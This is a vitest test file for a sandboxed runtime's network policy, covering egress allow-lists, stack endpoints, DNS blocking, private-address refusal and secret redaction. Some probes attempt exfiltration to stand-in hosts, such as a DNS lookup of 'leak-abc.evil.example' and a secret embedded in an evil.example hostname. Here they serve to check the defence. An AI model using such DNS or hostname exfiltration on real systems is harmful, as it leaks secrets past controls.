import { existsSync, readFileSync } from 'node:fs';
import { Socket } from 'node:net';
import { join } from 'node:path';
import { afterAll, describe, expect, it } from 'vitest';
import type { Diagnostic } from '../../../../src/core/diagnostic.ts';
import { createStoreRedactor } from '../../../../src/core/redaction/redactor.ts';
import type { Execution, Runtime, StackEndpoint } from '../../../../src/executor/ports.ts';
import {
  createLocalRuntime,
  type LocalRuntimeOptions,
} from '../../../../src/executor/runtimes/local/local-runtime.ts';
import { systemProgram } from '../../../../src/executor/runtimes/local/sandbox/probe-sandbox.ts';
import type { Network } from '../../../../src/planner/ir/ir.ts';
import { invocationOf, removeInvocations, script } from '../../../support/invocation.ts';
import { fakeInternet, type TestServer, testServer } from '../../../support/network-rig.ts';

const opened: Runtime[] = [];
const servers: TestServer[] = [];
function runtime(options: Partial<LocalRuntimeOptions> = {}): Runtime {
  const made = createLocalRuntime({ sandbox: 'bubblewrap', cgroups: { root: '/', own: '' }, ...options });
  opened.push(made);
  return made;
}
async function server(...args: Parameters<typeof testServer>): Promise<TestServer> {
  const made = await testServer(...args);
  servers.push(made);
  return made;
}
afterAll(async () => {
  await Promise.all(opened.map((each) => each.close()));
  await Promise.all(servers.map((each) => each.close()));
  removeInvocations();
});

interface Ran {
  readonly execution: Execution;
  readonly stdout: string;
  readonly stderr: string;
}

async function run(
  using: Runtime,
  text: string,
  network: Network,
  endpoints: readonly StackEndpoint[] = [],
): Promise<Ran> {
  const invocation = invocationOf({ steps: [script(text)], stage: { network }, over: { endpoints } });
  const execution = await using.execute(invocation);
  const log = (name: string) => {
    const path = join(invocation.logDir, `scan.${name}`);
    return existsSync(path) ? readFileSync(path, 'utf8') : '';
  };
  return { execution, stdout: log('stdout'), stderr: log('stderr') };
}

/** Says `reached` for each place that a TCP connection comes about to, else why not. */
function probe(...places: readonly (readonly [host: string, port: number])[]): string {
  const program = `
import socket, sys
for place in sys.argv[1:]:
    host, _, port = place.rpartition(':')
    try:
        with socket.create_connection((host, int(port)), 5) as s:
            print(place, 'reached', s.recv(100).decode().strip())
    except Exception as error:
        print(place, type(error).__name__, error)
`;
  return `exec /usr/bin/python3 -c "${program.replaceAll('"', '\\"')}" ${places.map((place) => place.join(':')).join(' ')}`;
}

function hasIp(): boolean {
  const found = systemProgram('ip') !== undefined;
  if (!found) console.warn('SKIPPED, as ip (iproute2) is not installed: addresses of other machines');
  return found;
}

describe('a stage', () => {
  it('with network none reaches nothing, and with no sandbox the same probe does', async () => {
    const target = await server();
    const text = probe(['127.0.0.1', target.port], ['localhost', target.port], ['192.0.2.1', 80]);
    const none = await run(runtime(), text, 'none');
    expect(none.execution).toMatchObject({ ok: true });
    expect(none.stdout.split('\n').filter((line) => line !== '')).toHaveLength(3);
    expect(none.stdout).not.toContain('reached');
    expect(target.count()).toBe(0);
    // The planted violation: without the restriction the probe says so.
    const open = await run(runtime({ sandbox: 'none' }), text, 'none');
    expect(open.stdout).toContain(`127.0.0.1:${target.port} reached hello`);
    expect(target.count()).toBeGreaterThan(0);
  });

  it('with the stack reaches what is named and no other port of the host', async () => {
    const [one, two, other] = [await server(), await server(), await server()];
    const endpoints: StackEndpoint[] = [
      { host: '127.0.0.1', port: one.port },
      { host: 'localhost', port: one.port },
      { host: 'api', port: 8080, to: { host: '127.0.0.1', port: two.port } },
    ];
    const places: (readonly [string, number])[] = [
      ['127.0.0.1', one.port],
      ['localhost', one.port],
      ['api', 8080],
      ['127.0.0.1', other.port],
      ['localhost', other.port],
      ['127.0.0.1', two.port],
      ['api', 80],
      ['192.0.2.1', 80],
      ['example.org', 443],
    ];
    const using = runtime();
    const { execution, stdout } = await run(using, probe(...places), 'stack', endpoints);
    expect(execution).toMatchObject({ ok: true });
    const lines = stdout.trim().split('\n');
    expect(lines.filter((line) => line.includes('reached'))).toEqual([
      `127.0.0.1:${one.port} reached hello`,
      `localhost:${one.port} reached hello`,
      'api:8080 reached hello',
    ]);
    expect(lines).toHaveLength(places.length);
    expect(other.count()).toBe(0);
    expect(two.count()).toBe(1);
    // The name that nobody may ask for is reported, in the log and to the reader of the result.
    expect(execution).toMatchObject({
      notes: [{ kind: 'host-refused', host: 'example.org' }],
    });
    const open = await run(runtime({ sandbox: 'none' }), probe(...places), 'stack', endpoints);
    expect(open.stdout).toContain(`127.0.0.1:${other.port} reached hello`);
  });

  it('with the stack reaches the base URL of its target, whatever else is named', async () => {
    const target = await server();
    const invocation = invocationOf({
      steps: [script(probe(['localhost', target.port]))],
      stage: { network: 'stack' },
      over: { endpoint: `http://localhost:${target.port}/base/` },
    });
    expect(await runtime().execute(invocation)).toMatchObject({ ok: true });
    expect(readFileSync(join(invocation.logDir, 'scan.stdout'), 'utf8')).toContain('reached hello');
  });

  it('without a stack does not start', async () => {
    const { execution } = await run(runtime(), 'echo no', 'stack');
    expect(execution).toMatchObject({ ok: false, failure: { reason: 'requirement-unmet' } });
  });

  it('with egress reaches the named host on 80 and 443 and no other, by name and by its address', async () => {
    const [plain, tls, evil] = [
      await server((socket) => socket.end('plain\n')),
      await server((socket) => socket.end('tls\n')),
      await server((socket) => socket.end('evil\n')),
    ];
    const connector = fakeInternet(
      { 'good.example': ['203.0.113.5'], 'evil.example': ['203.0.113.6'] },
      { '203.0.113.5:80': plain.port, '203.0.113.5:443': tls.port, '203.0.113.6:80': evil.port },
    );
    const using = runtime({ connector });
    const text = probe(
      ['good.example', 80],
      ['GOOD.example', 443],
      ['good.example', 8443],
      ['evil.example', 80],
      ['203.0.113.6', 80],
      ['203.0.113.5', 80],
      ['sub.good.example', 80],
      ['127.0.0.1', plain.port],
    );
    const { execution, stdout, stderr } = await run(using, text, { egress: ['good.example'] });
    const lines = stdout.trim().split('\n');
    expect(lines.filter((line) => line.includes('reached'))).toEqual([
      'good.example:80 reached plain',
      'GOOD.example:443 reached tls',
    ]);
    expect(lines).toHaveLength(8);
    expect(evil.count()).toBe(0);
    expect([...new Set(connector.asked)]).toEqual(['good.example']);
    expect(execution).toMatchObject({
      ok: true,
      notes: [
        { kind: 'host-refused', host: 'evil.example' },
        { kind: 'host-refused', host: 'sub.good.example' },
      ],
    });
    expect(stderr).toContain('[secplan] network: evil.example is not an allowed host\n');
    // The planted violation: the other host, once allowed, is reached by the same probe.
    const both = await run(using, text, { egress: ['evil.example', 'good.example'] });
    expect(both.stdout).toContain('evil.example:80 reached evil');
  });

  it('with a pattern reaches what fits it', async () => {
    const target = await server();
    const names = Object.fromEntries(['a.good.example', 'b.c.good.example'].map((n) => [n, ['203.0.113.7']]));
    const connector = fakeInternet(
      { ...names, 'good.example': ['203.0.113.7'] },
      { '203.0.113.7:443': target.port },
    );
    const { execution, stdout } = await run(
      runtime({ connector }),
      probe(
        ['a.good.example', 443],
        ['b.c.good.example', 443],
        ['good.example', 443],
        ['notgood.example', 443],
        ['127.0.0.1', 443],
        ['none.good.example', 443],
      ),
      { egress: ['*.good.example:443'] },
    );
    expect(
      stdout
        .trim()
        .split('\n')
        .filter((line) => line.includes('reached hello')),
    ).toEqual(['a.good.example:443 reached hello', 'b.c.good.example:443 reached hello']);
    // A name that only a pattern allows may well not exist: it is noted, and the stage is not lost by it.
    expect(execution).toMatchObject({
      ok: true,
      notes: [
        {
          kind: 'host-not-reached',
          host: 'none.good.example:443',
          why: expect.stringContaining('ENOTFOUND'),
        },
        { kind: 'host-refused', host: '127.0.0.1:443' },
        { kind: 'host-refused', host: 'good.example' },
        { kind: 'host-refused', host: 'notgood.example' },
      ],
    });
  });

  it('whose host is never reached is not believed, whatever it says', async () => {
    const connector = fakeInternet({ 'good.example': ['203.0.113.5'] }, {});
    const { execution, stderr } = await run(
      runtime({ connector }),
      `${probe(['good.example', 443]).replace('exec ', '')}; exit 0`,
      { egress: ['good.example'] },
    );
    expect(execution).toMatchObject({
      ok: false,
      failure: {
        reason: 'unreachable',
        detail: expect.stringMatching(/^good\.example:443: .*ECONNREFUSED/),
      },
    });
    expect(stderr).toContain('[secplan] network: good.example:443 was not reached');
    // One that does not try is.
    const idle = await run(runtime({ connector }), 'echo ok', { egress: ['good.example'] });
    expect(idle.execution).toMatchObject({ ok: true });
  });

  it('that gives up before its host has answered has not reached it', async () => {
    // A name whose resolver never answers, and an address where a connection never comes about.
    const silent = { resolve: () => new Promise<never>(() => {}), connect: () => new Socket() };
    const absent = { ...silent, resolve: async () => ['203.0.113.5'] };
    for (const connector of [silent, absent]) {
      const text = `exec /usr/bin/python3 -c "
import socket
s = socket.create_connection(('good.example', 443))
s.settimeout(0.2)
try:
    s.recv(1)
except TimeoutError:
    print('gave up')
"`;
      const using = runtime({ connector });
      const ran = await run(using, text, { egress: ['good.example'] });
      expect(ran.stdout).toBe('gave up\n');
      expect(ran.execution).toMatchObject({
        ok: false,
        failure: { reason: 'unreachable', detail: 'good.example:443: no answer in time' },
      });
      // The next stage in the same network has nothing to do with it.
      const next = await run(using, 'echo ok', { egress: ['good.example'] });
      expect(next.execution).toMatchObject({ ok: true });
    }
  });

  it('is not led into the own network by a public name', async () => {
    const target = await server();
    for (const address of ['127.0.0.1', '10.0.0.1', '169.254.169.254', '::ffff:10.0.0.1', 'fd00::1']) {
      const connector = fakeInternet({ 'good.example': [address] }, { [`${address}:443`]: target.port });
      const { execution } = await run(runtime({ connector }), `${probe(['good.example', 443])}`, {
        egress: ['good.example'],
      });
      expect(execution).toMatchObject({
        ok: false,
        failure: { reason: 'unreachable', detail: expect.stringContaining('private address') },
      });
      expect(connector.dialled).toEqual([]);
    }
    expect(target.count()).toBe(0);
    // With a public address beside it, that one is taken.
    const connector = fakeInternet(
      { 'good.example': ['10.0.0.1', '203.0.113.5'] },
      { '10.0.0.1:443': 1, '203.0.113.5:443': target.port },
    );
    const mixed = await run(runtime({ connector }), probe(['good.example', 443]), {
      egress: ['good.example'],
    });
    expect(mixed.stdout).toContain('reached hello');
    expect(connector.dialled).toEqual(['203.0.113.5:443']);
  });

  it.skipIf(!hasIp())(
    'reaches an address of another machine that is named as such, private or not',
    async () => {
      const target = await server();
      const connector = fakeInternet({}, { '10.9.8.7:8080': target.port });
      const { execution, stdout } = await run(
        runtime({ connector }),
        probe(['10.9.8.7', 8080], ['10.9.8.7', 8081], ['10.9.8.6', 8080]),
        { egress: ['10.9.8.7:8080', '*.example.org:8080'] },
      );
      expect(execution).toMatchObject({ ok: true });
      expect(stdout).toMatch(
        /^10\.9\.8\.7:8080 reached hello\n10\.9\.8\.7:8081 ConnectionRefused.*\n10\.9\.8\.6:8080 OSError/,
      );
    },
  );

  it('reaches no resolver: an answer is made up here, and asks nobody', async () => {
    const connector = fakeInternet({ 'good.example': ['203.0.113.5'] }, {});
    const text = `exec /usr/bin/python3 -c "
import socket
for name in ['good.example', 'leak-abc.evil.example']:
    try:
        print(socket.gethostbyname(name))
    except OSError as error:
        print(type(error).__name__)
try:
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.sendto(b'x' * 30, ('192.0.2.53', 53))
    print('sent')
except OSError as error:
    print(error.strerror)
"`;
    const { stdout } = await run(runtime({ connector }), text, { egress: ['good.example'] });
    expect(stdout).toBe('127.0.1.1\ngaierror\nNetwork is unreachable\n');
    expect(connector.asked).toEqual([]);
  });

  it('under --offline reaches the stack and no egress', async () => {
    const target = await server();
    const using = runtime({ offline: true });
    const egress = await run(using, 'echo ran', { egress: ['good.example'] });
    expect(egress.execution).toMatchObject({
      ok: false,
      failure: { reason: 'requirement-unmet', detail: expect.stringContaining('--offline') },
    });
    expect(egress.stdout).toBe('');
    const open = await run(runtime({ offline: true, sandbox: 'none' }), 'echo ran', {
      egress: ['good.example'],
    });
    expect(open.execution).toMatchObject({ ok: false, failure: { reason: 'requirement-unmet' } });
    const stack = await run(using, probe(['localhost', target.port]), 'stack', [
      { host: 'localhost', port: target.port },
    ]);
    expect(stack.stdout).toContain('reached hello');
  });

  it('without a sandbox is unrestricted, which is said once and stands in the statement', async () => {
    const said: Diagnostic[] = [];
    const using = runtime({ sandbox: 'none', onDiagnostic: (item) => said.push(item) });
    for (let count = 0; count < 2; count += 1) await run(using, 'echo ok', { egress: ['good.example'] });
    expect(said.map(({ code }) => code).filter((code) => code !== 'SP5009')).toEqual(['SP5120']);
    expect(using.notEnforced.join()).toContain('network');
  });

  it('keeps a secret out of what is told of its network', async () => {
    const invocation = invocationOf({
      steps: [script(probe(['s3cr3t-value.evil.example', 80]))],
      stage: { network: { egress: ['good.example'] } },
      over: { redactor: createStoreRedactor(['s3cr3t-value']) },
    });
    const execution = await runtime().execute(invocation);
    expect(execution).toMatchObject({
      ok: true,
      notes: [{ kind: 'host-refused', host: '[redacted].evil.example' }],
    });
    expect(readFileSync(join(invocation.logDir, 'scan.stderr'), 'utf8')).toBe(
      '[secplan] network: [redacted].evil.example is not an allowed host\n',
    );
  });
});
